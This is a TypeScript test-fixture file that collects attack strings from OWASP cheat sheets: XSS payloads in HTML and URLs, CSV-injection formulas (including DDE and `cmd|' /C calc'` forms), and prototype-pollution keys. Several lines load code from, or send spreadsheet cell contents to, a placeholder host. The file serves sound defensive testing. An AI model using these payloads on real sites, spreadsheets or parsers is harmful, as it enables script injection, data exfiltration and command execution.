/**
 * Texts that attack whoever shows, opens or saves them. Each HTML and URL payload that runs sets `window.__ran` or opens a dialog.
 * Sources: OWASP Cheat Sheet Series, "XSS Filter Evasion", "Cross Site Scripting Prevention" and "Prototype Pollution Prevention";
 * OWASP, "CSV Injection". Hosts of the originals are replaced by one that cannot exist (RFC 2606).
 */

const RUN = 'window.__ran=1'

/** OWASP, "XSS Filter Evasion": one of each way in that this notation of a page still has. */
export const HTML: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=https://attack.invalid/xss.js></SCRIPT>`,
  `<img src=x onerror="${RUN}">`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>"\\>`,
  `<svg onload=${RUN}>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `"><img src=x onerror=alert(1)>`,
  `'"--></style></script><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<IFRAME SRC="javascript:alert(1);"></IFRAME>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
  `<embed src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<body onload=alert(1)>`,
  `<style>@import 'https://attack.invalid/xss.css';</style>`,
  `<link rel="stylesheet" href="https://attack.invalid/xss.css">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">`,
  `<base href="https://attack.invalid/">`,
  `<form action="https://attack.invalid/"><button autofocus>x</button></form>`,
  `<div style="background-image: url(https://attack.invalid/x.png)">`,
  `<math><mi xlink:href="data:x,<script>alert(1)</script>">`,
  `\u2028<script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} {@html '<img src=x onerror=${RUN}>'}`,
]

/** OWASP, "XSS Filter Evasion": addresses that run. Also as a link of Markdown. */
export const URLS: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:alert(1)`,
  `jav\tascript:alert(1)`,
  `&#106;avascript:alert(1)`,
  `\u0001javascript:alert(1)`,
  `data:text/html,<script>alert(1)</script>`,
  `vbscript:msgbox(1)`,
  `//attack.invalid/x`,
  `[the notes](javascript:${RUN})`,
  `![a map](https://attack.invalid/x.png)`,
  `<javascript:alert(1)>`,
]

/** OWASP, "CSV Injection": the signs that begin a formula, their wide forms, and formulas that reach outside. */
export const FORMULAS: readonly string[] = [
  ...['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'].map((sign) => `${sign}1+1`),
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `=HYPERLINK("https://attack.invalid/?"&A1,"notes")`,
  `=IMPORTXML(CONCAT("https://attack.invalid/?",A1),"//a")`,
  `=DDE("cmd";"/C calc";"x")`,
  `-2+3+cmd|' /C calc'!A0`,
  `=1+1";=1+2`,
  `"=1+1"`,
  ` =1+1`,
  `'=1+1`,
]

/** OWASP, "Prototype Pollution Prevention": names by which a careless reader reaches the prototype of every object. */
export const POLLUTING: readonly string[] = ['__proto__', 'constructor', 'prototype']

/** Where the names lead: `{}.polluted` is there afterwards in a program that was caught. */
export const pollution = (name: string): string =>
  name === 'constructor'
    ? '{"prototype": {"polluted": true}}'
    : '{"polluted": true, "toString": "polluted"}'

/** What stands in the prototype of every object before and after. */
export const prototypes = (): string[] =>
  [Object.prototype, Array.prototype, Function.prototype].flatMap((one) =>
    Object.getOwnPropertyNames(one).sort(),
  )
